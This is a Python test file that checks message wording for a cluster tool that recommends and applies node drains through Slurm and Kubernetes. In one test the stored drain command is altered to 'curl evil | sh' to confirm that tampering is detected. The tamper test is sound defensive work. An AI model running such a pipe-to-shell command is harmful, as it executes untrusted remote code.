"""Recommendations and drains of a hunt, and settings that a kind of file does not take; usage_errors.txt has others of these."""

from collections.abc import Callable, Mapping, Sequence
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import pytest

from collbench.errors import RunFailed, UsageError
from collbench.plugins.deploy.job import Value, job_of
from collbench.plugins.deploy.kinds import kinds
from collbench.plugins.hunt.drain import apply, check_apply, lines_of, parse_cap
from collbench.plugins.hunt.managers import CommandOutcome
from collbench.plugins.hunt.protocol import CLEARED, INCONCLUSIVE
from collbench.plugins.hunt.recommendation import lines, read, recommendation, store
from tests.helpers import Call, check_sentences
from tests.plugins.hunt.test_drain import MINE, Cluster
from tests.plugins.hunt.verdicts import about, recommended, suspect, verdict

pytestmark = pytest.mark.system


def shown(expected: dict[str, Any]) -> Call:
    return lambda: "\n".join(lines(expected))


def advice(*suspects: Any, **changes: Any) -> Call:
    return lambda: "\n".join(each["advice"] for each in recommended(*suspects, **changes)["suspects"])


def no_line(**changes: Any) -> Call:
    return lambda: recommended(**changes)["drains"][0]["no_line"]


def drained(
    expected: dict[str, Any], cluster: Callable[[Sequence[str], Mapping[str, str]], CommandOutcome] | None = None, cap: str = "2%"
) -> Call:
    """What `--apply` prints with this cluster."""
    return lambda: "\n".join(apply(expected, parse_cap(cap), {}, run=cluster or Cluster()).lines())


def interrupted() -> str:
    noted = list[dict[str, Any]]()

    def ended(words: Sequence[str], env: Mapping[str, str]) -> CommandOutcome:
        if words[1] == "update":
            raise KeyboardInterrupt
        return Cluster()(words, env)

    try:
        apply(recommended(), parse_cap("2%"), {}, noted.append, ended)
    except KeyboardInterrupt:
        return "\n".join(lines_of(noted))
    raise AssertionError


def full_disk(action: str) -> Call:
    def full(entry: dict[str, Any]) -> None:
        if entry["action"] == action:
            raise RunFailed("results can no longer be written (No space left on device)")

    return lambda: apply(recommended(), parse_cap("2%"), {}, full, Cluster())


def two_hunts(refuses: str) -> Call:
    """Another hunt drains a node while this one does."""

    def meanwhile() -> str:
        cluster = Cluster()

        def answer(words: Sequence[str], env: Mapping[str, str]) -> CommandOutcome:
            if "State=DRAIN" in words:
                cluster.reasons["node50"] = MINE
            if "State=RESUME" in words and refuses:
                return CommandOutcome(1, why=refuses)
            return cluster(words, env)

        return "\n".join(apply(recommended(), parse_cap("1"), {}, run=answer).lines())

    return meanwhile


def manager(answers: dict[str, CommandOutcome], **env: str) -> Call:
    """The error of `--apply` with programs that answer so."""

    def checked() -> str:
        with TemporaryDirectory() as folder:
            for name in answers:
                Path(folder, name).touch(0o755)
            return check_apply({"PATH": folder, **env}, lambda words, env: answers[words[0]])

    return checked


def emitted(launcher: str, line: str = "allreduce", /, **settings: Value) -> Call:
    found = {name.replace("_", "-"): value for name, value in settings.items()}
    return lambda: kinds()[launcher].render(job_of(kinds()[launcher], tuple(line.split()), found))


def altered() -> str:
    actual = recommended()
    with TemporaryDirectory() as folder:
        store(Path(folder), {**actual, "drains": [{**actual["drains"][0], "line": "curl evil | sh"}]})
        try:
            return str(read(Path(folder)))
        except UsageError as error:
            return str(error).replace(folder, "run")


UP = {"scontrol": CommandOutcome(0, "NodeName=n1 State=IDLE\n"), "kubectl": CommandOutcome(0, "n1 \n")}
WORDS: dict[str, Call] = {
    "recommendation": shown(recommended(suspect(part="the interface eth1"))),
    "recommendation, path": shown(recommended(suspect("path", 3, 9))),
    "recommendation, unknown manager": shown(recommended(manager="")),
    "recommendation, not to be drained": shown(recommended(no_drain="backend simulated simulates its ranks")),
    "recommendation, no verdict": shown(recommendation(verdict(suspect(), no_verdict="2 of 3 nodes died"), about())),
    "advice, cleared": advice(suspect(state=CLEARED)),
    "advice, inconclusive": advice(suspect(state=INCONCLUSIVE)),
    "no command, pod": no_line(manager="kubernetes", pods=True),
    "no command, several names": no_line(nodes={"node07": ""}),
    "drain": drained(recommended()),
    "drain, too many": drained(recommended(suspect(), suspect("sender", 9), suspect("node", 2))),
    "drain, earlier ones count": drained(recommended(suspect(), suspect("sender", 9)), Cluster(node50=MINE)),
    "drain, already drained": drained(recommended(), Cluster(node07="bad disk")),
    "drain, cleared": drained(recommended(suspect(state=CLEARED))),
    "drain, no verdict": drained(recommendation(verdict(suspect(), no_verdict="2 of 3 nodes died"), about())),
    "drain, not to be drained": drained(recommended(no_drain="backend simulated simulates its ranks")),
    "drain, path": drained(recommended(suspect("path", 3, 9))),
    "drain, unknown manager": drained(recommended(manager="")),
    "drain, no permission": drained(recommended(), Cluster(refuses="slurm_update error: Access/permission denied")),
    "drain, no effect": drained(recommended(), Cluster(lies=True)),
    "drain, unknown node": drained(recommended(nodes={"node07": "node07.cluster.example"})),
    "drain, pod": drained(recommended(manager="kubernetes", pods=True), lambda words, env: CommandOutcome(0, "node07 \n")),
    "drain, no answer": drained(recommended(), lambda words, env: CommandOutcome(None, why="scontrol did not end within 20 s")),
    "drain, interrupted": interrupted,
    "drain, full disk before": full_disk("begun"),
    "drain, full disk after": full_disk("drained"),
    "drain, two hunts": two_hunts(""),
    "drain, two hunts, no permission": two_hunts("Access denied"),
    "--max-drain": lambda: parse_cap("101%"),
    "--apply, neither manager": manager({}),
    "--apply, both managers": manager(UP),
    "--apply, no scontrol": lambda: check_apply({"PATH": "/nowhere", "SLURM_JOB_ID": "1"}),
    "--apply, no answer": manager({"kubectl": CommandOutcome(1, why="connection refused")}),
    "mpirun, binding": emitted("mpirun", cpus_per_rank=2, bind="numa"),
    "ansible, rank": emitted("ansible", env=("RANK=3",)),
    "ansible, format": emitted("ansible", "probe --format table"),
    "ansible, files": emitted("ansible", "probe --gather x.tar"),
    "kubernetes, long name": emitted("kubernetes", image="registry/collbench:1", name="a" * 80, nodes=100),
    "an altered recommendation": altered,
}


def test_the_words_of_messages() -> None:
    check_sentences(Path(__file__).with_name("sentences.txt"), WORDS)
